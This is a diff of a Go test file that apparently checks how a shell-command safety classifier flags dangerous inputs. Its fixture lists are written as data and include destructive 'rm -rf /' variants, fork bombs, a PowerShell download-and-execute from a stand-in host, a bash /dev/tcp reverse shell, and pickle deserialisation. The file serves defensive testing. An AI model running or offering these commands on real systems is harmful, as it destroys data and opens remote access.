@@ -50,7 +50,10 @@ func TestOtherShells(t *testing.T) {
 		"zsh -c 'zargs -- /home -- rm -rf'", `zsh -c 'echo *(e:"rm -rf /":)'`, "zsh -c 'for d (/ /home) rm -rf $d'", `tcsh -c 'alias x "rm -rf /"; x'`, "nu -c '^rm -rf /'", "elvish -c 'e:rm -rf /'", "podman unshare rm -rf /home",
 		"rm -rf /mnt/c/Windows", "rm -rf /cygdrive/c", "pwsh -c 'while(1){start powershell}'", "mknod x b 8 0; dd if=/dev/zero of=x", "chmod 000 /", "pkill -9 -u 0", "fuser -km /home", "stress-ng --fork 0", "git --work-tree=/ rm -rf .", "GIT_WORK_TREE=/ git clean -fdx",
 	})
-	doubted(t, touch.OpaqueCommand, []string{`powershell "iex (iwr http://a.example/x)"`, "bash -i >& /dev/tcp/a.example/1 0>&1", "enable -f /tmp/a.so a", `python3 -c 'import pickle,base64;pickle.loads(base64.b64decode("Y3A="))'`}, []string{
+	for _, line := range []string{`powershell "iex (iwr http://a.example/x)"`, `python3 -c 'import pickle,base64;pickle.loads(base64.b64decode("Y3A="))'`} {
+		require.Contains(t, codes(shell(t, line).Unread), touch.UnreadCode, line)
+	}
+	doubted(t, touch.OpaqueCommand, []string{"bash -i >& /dev/tcp/a.example/1 0>&1", "enable -f /tmp/a.so a"}, []string{
 		`pwsh -c 'Invoke-WebRequest https://a.example -OutFile a'`, "echo a > /dev/tcp/a.example/1", "enable -n test", `python3 -c 'import pickle; print(pickle.load(open("a.pkl","rb")))'`,
 		`IFS=: read -ra p <<< "$PATH"`, `IFS=_; set -- $(echo a_b_c); echo $2`, `PS1='\u@\h'; echo "${PS1@P}"`, "x='a[0]'; echo $((x))", "let 'a[0]=1'", "trap -- 'echo done' EXIT", "complete -C aws_completer aws", "bash --rcfile <(echo 'PS1=x') -i",
 		"env 'F=() { :; }' true", "fish -c 'for f in *.log; rm $f; end'", "fish -c 'set x (date); echo $x'", "zsh -c 'print -l *(.om[1,5])'", "zsh -c 'for f (*.txt) echo $f'", "rm -rf /mnt/c/Users/dev/a/build", "mknod p p; echo a > p", "chmod 000 a", "pkill -u dev node", "fuser -k 8080/tcp",
